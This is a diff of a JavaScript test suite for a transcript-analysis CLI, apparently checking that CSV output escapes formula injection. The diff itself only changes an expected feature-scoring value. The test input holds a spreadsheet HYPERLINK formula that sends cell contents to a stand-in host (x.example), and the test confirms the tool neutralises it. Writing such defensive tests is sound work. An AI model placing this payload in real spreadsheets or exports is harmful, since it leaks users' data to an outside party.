@@ -25,7 +25,7 @@ describe('CSV formula injection', () => {
     const out = join(dir, 'out');
     expect((await cli(['analyse', join(dir, 'in.csv'), '--out', out, '--unit', 'line'])).code).toBe(0);
     const segments = readFileSync(join(out, 'segments.csv'), 'utf8');
-    expect(segments.split('\n')[1]).toBe(`'@P1,1,0,43,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,EV,,cues:EV +0.37; length:4-7 +0.18; cues:OR=0 +0.17,,,'-North`);
+    expect(segments.split('\n')[1]).toBe(`'@P1,1,0,43,"'=HYPERLINK(""http://x.example/?""&A1,""click"")",,EV,,cues:EV +0.37; length:1-3 +0.17; cues:OR=0 +0.17,,,'-North`);
     expect(readFileSync(join(out, 'participants.csv'), 'utf8')).toContain(`\n'@P1,1,`);
     const grid = await cli(['grid', join(out, 'segments.csv'), '--participant', '@P1']);
     expect(grid.stdout).toBe(`| Participant @P1 | Theme | Application of Labov |\n| --- | --- | --- |\n| ${text.replace("&A1", "&amp;A1")} |  | EV |\n`);
